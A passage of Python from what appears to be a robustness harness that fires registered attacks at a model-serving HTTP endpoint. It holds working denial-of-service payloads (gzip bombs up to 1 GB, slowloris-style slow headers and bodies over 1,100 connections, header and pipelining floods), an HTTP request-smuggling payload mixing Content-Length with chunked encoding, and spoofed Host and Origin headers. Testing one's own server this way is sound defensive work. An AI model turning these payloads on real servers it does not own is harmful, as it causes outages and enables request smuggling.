    return target.post(_gzip(90 << 20), headers=_GZIP_SENT)


@attack("json")
def gzip_body_of_1_gb(target: Target) -> str:
    return target.post(_gzip(1 << 30), headers=_GZIP_SENT)


@attack("json", threads=8)
def slow_gzip_body_of_60_mb(target: Target) -> str:
    return target.post(_slow_gzip(60 << 20), headers=_GZIP_SENT)


@attack("json", threads=32)
def slow_gzip_body_of_4_mb(target: Target) -> str:
    return target.post(_slow_gzip(4 << 20), headers=_GZIP_SENT)


@attack("json", threads=64)
def slow_gzip_body_of_400_kb(target: Target) -> str:
    return target.post(_slow_gzip(400 << 10), headers=_GZIP_SENT)


def _many_connections(target: Target, data: bytes, count: int = 1100) -> str:
    host, _, port = target.rest.rpartition(":")
    clients = []
    for _ in range(count):
        client = socket.create_connection((host, int(port)))
        with suppress(OSError):
            client.sendall(data)
        clients.append(client)
    for _ in range(3):
        time.sleep(1)
        for client in clients:
            with suppress(OSError):
                client.sendall(b" ")
    for client in clients:
        client.close()
    return "slow"


def _head(target: Target, *lines: str, host: str = "localhost") -> bytes:
    path = f"/v1/models/{target.model}:predict"
    return "\r\n".join([f"POST {path} HTTP/1.1", f"Host: {host}", *lines, "", ""]).encode()


@attack("rest", threads=1)
def slow_heads(target: Target) -> str:
    return _many_connections(target, _head(target)[:30])


@attack("rest", threads=1)
def slow_bodies(target: Target) -> str:
    return _many_connections(target, _head(target, "Content-Length: 1000") + b"{")


@attack("rest", threads=1)
def connections_that_say_nothing(target: Target) -> str:
    return _many_connections(target, b"")


@attack("rest")
def length_and_chunks(target: Target) -> str:
    head = _head(target, "Content-Length: 4", "Transfer-Encoding: chunked")
    smuggled = f"GET /v1/models/{target.model} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode()
    return target.raw(head + b"0\r\n\r\n" + smuggled)


@attack("rest")
def chunks_of_a_byte(target: Target) -> str:
    head = _head(target, "Transfer-Encoding: chunked")
    return target.raw(head + b"1\r\n \r\n" * 1_000_000 + b"0\r\n\r\n", wait_s=20)


@attack("rest")
def a_head_without_end(target: Target) -> str:
    return target.raw(_head(target)[:-2] + b"x: y\r\n" * 1_000_000)


@attack("rest", threads=8)
def heads_of_950_lines(target: Target) -> str:
    return target.raw((_head(target)[:-2] + b"a:\r\n" * 950 + b"\r\n") * 8)


@attack("rest")
def a_line_without_end(target: Target) -> str:
    return target.raw(b"GET /" + b"a" * 10_000_000)


@attack("rest")
def requests_one_behind_the_other(target: Target) -> str:
    one = f"GET /v1/models/{target.model} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode()
    return target.raw(one * 5_000)


@attack("rest", threads=8)
def answers_that_nobody_takes(target: Target) -> str:
    one = f"GET /v1/models/{target.model}/metadata HTTP/1.1\r\nHost: localhost\r\n\r\n".encode()
    host, _, port = target.rest.rpartition(":")
    with closing(socket.create_connection((host, int(port)))) as client:
        with suppress(OSError):
            client.settimeout(0.5)
            client.sendall(one * 2_000)
        time.sleep(1)
    return "untaken"


# ---- the web ----


@attack("web", threads=4)
def another_host(target: Target) -> str:
    return target.post(b'{"instances": []}', headers={"Host": "rebound.example"})


@attack("web", threads=4)
def a_foreign_page(target: Target) -> str:
    return target.post(b'{"instances": []}', headers={"Origin": "https://evil.example"})


@attack("web", threads=4)
def a_form_of_another_site(target: Target) -> str:
    return target.post(b'{"instances": []}', headers={"Sec-Fetch-Site": "cross-site"})


# ---- work that does not end while the server is to ----


@attack("stop", threads=8)
def large_batches_without_end(target: Target) -> str:
    return target.image_bytes(*[target.image] * 1500)


def of_kinds(only: str) -> Iterator[tuple[str, Named]]:
    """The attacks whose names or kinds hold one of the words."""
    words = [word for word in only.split(",") if word]
    for name, each in ATTACKS.items():
        if not words or any(word in name or word == each.kind for word in words):
            yield name, each
